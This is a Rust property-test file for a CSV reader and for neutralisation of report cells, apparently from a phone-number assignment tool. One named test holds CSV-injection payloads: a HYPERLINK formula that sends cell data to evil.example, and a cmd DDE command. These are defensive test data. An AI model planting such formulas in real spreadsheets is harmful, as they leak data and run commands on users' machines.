//! Property tests of the CSV reader (`numbatch::read`) and of formula
//! neutralisation (`numbatch::text::neutralise`), in process:
//!
//! - arbitrary bytes never make the reader panic or loop, and what it says
//!   about them is a clean message;
//! - any rows written by the `csv` crate, with any of the delimiters numbatch
//!   takes, either line end, blank lines between them and with or without a
//!   final line end, read back as the same cells with the spreadsheet's row
//!   numbers;
//! - a report cell never starts a formula (unless it is an E.164 number) and
//!   reads back, after the reader's cleaning, as the value it was written
//!   from.

use numbatch::model::Kind;
use numbatch::read::{self, Rows, clean};
use numbatch::text::neutralise;
use proptest::prelude::*;
use proptest::test_runner::Config;
use std::path::Path;

const USERS_HEADER: [&str; 5] = [
    "UserPrincipalName",
    "DisplayName",
    "Plan",
    "VoiceEnabled",
    "Action",
];

/// The header of an assignments report that failed rows are written under.
const FAILED_HEADER: [&str; 6] = [
    "UserPrincipalName",
    "PhoneNumber",
    "Action",
    "Row",
    "ErrorCode",
    "Error",
];

/// 256 cases, or `PROPTEST_CASES` to search harder.
fn config() -> Config {
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(256);
    Config {
        cases,
        // Counterexamples found are kept as plain tests below instead.
        failure_persistence: None,
        ..Config::default()
    }
}

/// A file in a fresh temporary folder.
struct TempFile {
    _dir: tempfile::TempDir,
    path: std::path::PathBuf,
}

fn temp_file(bytes: &[u8]) -> TempFile {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("input.csv");
    std::fs::write(&path, bytes).unwrap();
    TempFile { _dir: dir, path }
}

// ---- strategies ------------------------------------------------------------------------

/// Text a spreadsheet cell may hold (anything but NUL), weighted towards what
/// is awkward for CSV, for spreadsheets and for terminals.
fn cell_text() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        ",",
        ";",
        "\t",
        "\"",
        "\r",
        "\n",
        "\r\n",
        " ",
        "  ",
        "'",
        "=",
        "+",
        "-",
        "@",
        "a",
        "Z",
        "1",
        "0",
        "é",
        "😀",
        "\u{FEFF}",
        "\u{200B}",
        "\u{202E}",
        "\u{1b}",
        "\u{7}",
        "\u{7f}",
        "\u{85}",
        "\u{a0}",
        "\u{3000}",
        "tel:",
        "+44",
        "=HYPERLINK(\"x\")",
        "#",
    ]);
    prop_oneof![
        "[ -~]{0,12}",
        "\\PC{0,8}",
        prop::collection::vec(pieces, 0..8).prop_map(|v| v.concat()),
        "[ \t]{0,2}\\+[0-9]{6,17}[ \t]{0,2}",
    ]
}

/// A line of the file: a record, or a blank line (nothing but delimiters
/// and white space).
#[derive(Clone, Debug)]
enum Line {
    Record(Vec<String>),
    Blank(String),
}

/// A blank line of a file delimited by `delimiter`; `leading` (before the
/// header) ones hold delimiters and spaces only.
fn blank(delimiter: u8, leading: bool) -> impl Strategy<Value = String> {
    let d = (delimiter as char).to_string();
    let mut pieces = vec![String::new(), " ".to_string(), d.clone(), d.clone() + &d];
    if !leading {
        pieces.extend(["\t".to_string(), " \t".to_string()]);
    }
    prop::collection::vec(prop::sample::select(pieces), 0..5).prop_map(|v| v.concat())
}

fn line(delimiter: u8) -> impl Strategy<Value = Line> {
    prop_oneof![
        4 => prop::collection::vec(cell_text(), 1..7).prop_map(Line::Record),
        1 => blank(delimiter, false).prop_map(Line::Blank),
    ]
}

/// A whole file's plan: delimiter, line end, leading blank lines, the
/// lines after the header, and whether the last line end is left off.
type FilePlan = (u8, &'static str, Vec<String>, Vec<Line>, bool);

fn file_plan(ends: &'static [&'static str]) -> impl Strategy<Value = FilePlan> {
    prop::sample::select(vec![b',', b';', b'\t']).prop_flat_map(move |d| {
        (
            Just(d),
            prop::sample::select(ends),
            prop::collection::vec(blank(d, true), 0..3),
            prop::collection::vec(line(d), 0..12),
            any::<bool>(),
        )
    })
}

/// Bytes that are sometimes a CSV file and mostly not.
fn hostile_bytes() -> impl Strategy<Value = Vec<u8>> {
    let prefixes: Vec<Vec<u8>> = vec![
        Vec::new(),
        b"UserPrincipalName,PhoneNumber,Action\n".to_vec(),
        b"UserPrincipalName;DisplayName;Plan;VoiceEnabled;Action\r\n".to_vec(),
        b"PhoneNumber\tNumberType\n".to_vec(),
        b"\xef\xbb\xbfUPN,Number\r\n".to_vec(),
        b"\xff\xfeU\x00P\x00N\x00\n\x00".to_vec(),
        b"\xfe\xff\x00U\x00P\x00N\x00\n".to_vec(),
        b"\"UPN,Number\n".to_vec(),
    ];
    let csvish = prop::sample::select(
        b",;\t\"\r\n '=+-@aZ09\x1b\x7f\x80\xc3\xa9\xff\xfe\xef\xbb\xbf\x00".to_vec(),
    );
    (
        prop::sample::select(prefixes),
        prop_oneof![
            prop::collection::vec(any::<u8>(), 0..600),
            prop::collection::vec(csvish, 0..600),
        ],
    )
        .prop_map(|(mut p, b)| {
            p.extend(b);
            p
        })
}

// ---- helpers -----------------------------------------------------------------------------

/// Nothing but delimiters and white space: a blank line, as a spreadsheet sees it.
fn looks_blank(bytes: &[u8], delimiter: u8) -> bool {
    bytes
        .iter()
        .all(|b| *b == delimiter || b.is_ascii_whitespace())
}

/// One record as the `csv` crate writes it, without its line end.
fn write_record(cells: &[String], delimiter: u8) -> Vec<u8> {
    let mut w = csv::WriterBuilder::new()
        .delimiter(delimiter)
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    w.write_record(cells).unwrap();
    let mut bytes = w.into_inner().unwrap();
    assert_eq!(bytes.pop(), Some(b'\n'));
    bytes
}

/// Every record of `path` with its row number, and the header's row number.
fn read_all(path: &Path) -> (u64, Vec<(u64, Vec<String>)>) {
    let source = read::open(path, None, u64::MAX).unwrap_or_else(|e| panic!("rejected: {e}"));
    let rows = Rows::new(&source)
        .unwrap()
        .map(|r| {
            let r = r.unwrap_or_else(|e| panic!("row error: {e}"));
            (r.row, r.cells)
        })
        .collect();
    (source.header_row, rows)
}

fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// `+` and 8 to 15 digits.
fn is_e164(cell: &str) -> bool {
    let digits = cell.strip_prefix('+').unwrap_or("");
    (8..=15).contains(&digits.len()) && digits.bytes().all(|b| b.is_ascii_digit())
}

/// Writes rows as numbatch's reports do (the `csv` crate's defaults, every
/// cell through `neutralise`), under the failed report's header.
fn write_report(rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(Vec::new());
    w.write_record(FAILED_HEADER).unwrap();
    for (i, cells) in rows.iter().enumerate() {
        let mut out: Vec<String> = cells.iter().map(|c| neutralise(c).into_owned()).collect();
        out.push((i + 2).to_string());
        out.push("INVALID_UPN".to_string());
        out.push(neutralise(&numbatch::text::escape(&cells[0])).into_owned());
        w.write_record(&out).unwrap();
    }
    w.into_inner().unwrap()
}

/// Reads a report back as numbatch would take it in, and compares each
/// written cell, cleaned, with the value it was written from, cleaned.
fn assert_report_reads_back(rows: &[Vec<String>]) -> Result<(), TestCaseError> {
    let file = temp_file(&write_report(rows));
    let source = read::open(&file.path, Some(Kind::Assignments), u64::MAX)
        .map_err(|e| TestCaseError::fail(format!("report rejected: {e}")))?;
    let read: Vec<_> = Rows::new(&source).unwrap().collect();
    prop_assert_eq!(read.len(), rows.len());
    for (i, (got, want)) in read.into_iter().zip(rows).enumerate() {
        let got = got.map_err(|e| TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(got.row, i as u64 + 2);
        for (c, original) in want.iter().enumerate() {
            prop_assert_eq!(
                clean(&got.cells[c]),
                clean(original),
                "cell {} of row {} ({:?}, written as {:?})",
                c,
                i + 2,
                original,
                neutralise(original)
            );
        }
    }
    Ok(())
}

// ---- arbitrary bytes ----------------------------------------------------------------------

proptest! {
    #![proptest_config(config())]

    /// Whatever the bytes, the reader answers (a source and rows, or an
    /// error) without panicking or looping; row numbers only go up; a
    /// message holds no raw control character and names a real line.
    #[test]
    fn arbitrary_bytes_never_panic(bytes in hostile_bytes()) {
        let file = temp_file(&bytes);
        let utf16 = bytes.starts_with(b"\xff\xfe") || bytes.starts_with(b"\xfe\xff");
        // Lines end in LF, CRLF or (old Mac files) CR.
        let lines = bytes.iter().filter(|b| matches!(b, b'\n' | b'\r')).count() as u64 + 1;
        let check_error = |e: &numbatch::error::FileError| -> Result<(), TestCaseError> {
            let text = e.to_string();
            prop_assert!(!text.chars().any(char::is_control), "raw control character in {:?}", text);
            if let (Some(line), false) = (e.line, utf16) {
                prop_assert!(line >= 1 && line <= lines, "line {} of {}: {}", line, lines, text);
            }
            Ok(())
        };
        for forced in [None, Some(Kind::Users), Some(Kind::Assignments)] {
            let source = match read::open(&file.path, forced, u64::MAX) {
                Ok(source) => source,
                Err(e) => {
                    check_error(&e)?;
                    continue;
                }
            };
            let mut last = source.header_row;
            let mut n = 0u64;
            for row in Rows::new(&source).unwrap() {
                n += 1;
                prop_assert!(n <= bytes.len() as u64 + 1, "more rows than bytes: a loop?");
                match row {
                    Ok(row) => {
                        prop_assert!(row.row > last, "row {} after row {}", row.row, last);
                        last = row.row;
                    }
                    Err(e) => {
                        check_error(&e)?;
                        break;
                    }
                }
            }
        }
    }
}

// ---- rows survive writing and reading again -------------------------------------------------

/// Writes the file `plan` describes, reads it with numbatch's reader, and
/// compares the cells and row numbers with what was written.
fn assert_rows_survive(plan: FilePlan) -> Result<(), TestCaseError> {
    let (delimiter, end, leading, lines, drop_last_end) = plan;
    let end = end.as_bytes();
    let mut bytes = Vec::new();
    for b in &leading {
        bytes.extend_from_slice(b.as_bytes());
        bytes.extend_from_slice(end);
    }
    let header: Vec<String> = USERS_HEADER.iter().map(|s| s.to_string()).collect();
    bytes.extend(write_record(&header, delimiter));
    bytes.extend_from_slice(end);
    let header_row = leading.len() as u64 + 1;
    let mut row = header_row;
    let mut expected = Vec::new();
    for line in &lines {
        row += 1;
        let text = match line {
            Line::Record(cells) => {
                let text = write_record(cells, delimiter);
                if !looks_blank(&text, delimiter) {
                    expected.push((row, cells.clone()));
                }
                text
            }
            Line::Blank(text) => text.as_bytes().to_vec(),
        };
        bytes.extend(text);
        bytes.extend_from_slice(end);
    }
    if drop_last_end && matches!(lines.last(), Some(Line::Record(_))) {
        bytes.truncate(bytes.len() - end.len());
    }
    let file = temp_file(&bytes);
    let (got_header_row, got) = read_all(&file.path);
    prop_assert_eq!(got_header_row, header_row);
    prop_assert_eq!(got, expected, "file: {:?}", String::from_utf8_lossy(&bytes));
    Ok(())
}

proptest! {
    #![proptest_config(config())]

    /// Rows written by the `csv` crate read back as the same cells, with the
    /// row numbers a spreadsheet shows (the header and every record and
    /// blank line count one; a record over several lines counts one).
    #[test]
    fn rows_survive_writing_and_reading_again(plan in file_plan(&["\n", "\r\n"])) {
        assert_rows_survive(plan)?;
    }

    /// The same with carriage-return-only line ends (old Mac files).
    #[test]
    fn rows_survive_with_carriage_return_line_ends(plan in file_plan(&["\r"])) {
        assert_rows_survive(plan)?;
    }
}

// ---- formula neutralisation -----------------------------------------------------------------

proptest! {
    #![proptest_config(config())]

    /// No neutralised cell starts with a character a spreadsheet takes for
    /// a formula, unless it is a number in E.164 form.
    #[test]
    fn a_neutralised_cell_never_starts_a_formula(cell in cell_text()) {
        let out = neutralise(&cell);
        prop_assert!(
            !starts_like_formula(&out) || is_e164(&out),
            "{:?} is written as {:?}", cell, out
        );
        if is_e164(&cell) {
            prop_assert_eq!(out.as_ref(), cell.as_str(), "an E.164 number is left alone");
        }
    }

    /// Report → re-ingest gives the same value, after the reader's normal
    /// cleaning (`read::clean`: spaces trimmed, the leading `'` removed).
    #[test]
    fn report_cells_read_back_as_written(
        rows in prop::collection::vec(prop::collection::vec(cell_text(), 3), 1..5)
    ) {
        assert_report_reads_back(&rows)?;
    }
}

// ---- the cases the properties found, and a few named ones --------------------------------------

/// Found by `report_cells_read_back_as_written`: `"\t'abc"` reads as `abc`,
/// and its report cell `"'\t'abc"` must too; likewise when quotes and white
/// space alternate (`"\t'\t'"` reads as empty, and so must `"'\t'\t'"`).
#[test]
fn tab_then_quote_reads_back_as_written() {
    for cell in [
        "\t'abc",
        "\r'=1+1",
        "\t'",
        "\t'\t'",
        "\t'\r'",
        "\r\n'\u{85}'",
    ] {
        let rows = vec![vec![
            cell.to_string(),
            "+442079460001".into(),
            "assign".into(),
        ]];
        assert_report_reads_back(&rows).unwrap();
    }
}

#[test]
fn formula_cells_read_back_as_written() {
    let cells = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "@SUM(1+1)",
        "-1+2",
        "+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already neutral",
        "''double",
        "+442079460001",
        " +442079460001 ",
        "+44 20 7946 0001",
    ];
    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| vec![c.to_string(), c.to_string(), c.to_string()])
        .collect();
    assert_report_reads_back(&rows).unwrap();
}

#[test]
fn blank_lines_and_multi_line_cells_count_as_spreadsheet_rows() {
    let text = "\n  \nUserPrincipalName;DisplayName\n\na@b.c;\"two\nlines\"\n ; \nd@e.f;x";
    let file = temp_file(text.as_bytes());
    let (header_row, rows) = read_all(&file.path);
    assert_eq!(header_row, 3);
    assert_eq!(
        rows,
        vec![
            (5, vec!["a@b.c".to_string(), "two\nlines".to_string()]),
            (7, vec!["d@e.f".to_string(), "x".to_string()]),
        ]
    );
}

/// Found by the fuzz target: whatever the lines before the header, the
/// rows pass agrees with the header pass on where the header is.
#[test]
fn the_header_is_never_read_as_a_row() {
    for text in [
        ";;;;\nUserPrincipalName,DisplayName\nzed@contoso.com,Zed\n",
        ";;\n\t\t\nUserPrincipalName,DisplayName\nzed@contoso.com,Zed\n",
        ",,\nUserPrincipalName;DisplayName\nzed@contoso.com;Zed\n",
    ] {
        let file = temp_file(text.as_bytes());
        let (header_row, rows) = read_all(&file.path);
        let want = text.lines().position(|l| l.starts_with("User")).unwrap() as u64 + 1;
        assert_eq!(header_row, want, "{text:?}");
        assert_eq!(
            rows,
            vec![(
                want + 1,
                vec!["zed@contoso.com".to_string(), "Zed".to_string()]
            )],
            "{text:?}"
        );
    }
}

/// Found by `rows_survive_writing_and_reading_again`. Excel writes an empty
/// first row of a `;` file as `;;;;`.
#[test]
fn a_blank_line_of_semicolons_before_the_header_is_skipped() {
    let text = ";;;;\r\nUserPrincipalName;DisplayName;Plan;VoiceEnabled;Action\r\na@b.c;A;Max;true;upsert\r\n";
    let file = temp_file(text.as_bytes());
    let (header_row, rows) = read_all(&file.path);
    assert_eq!(header_row, 2);
    assert_eq!(rows[0].0, 3);
}
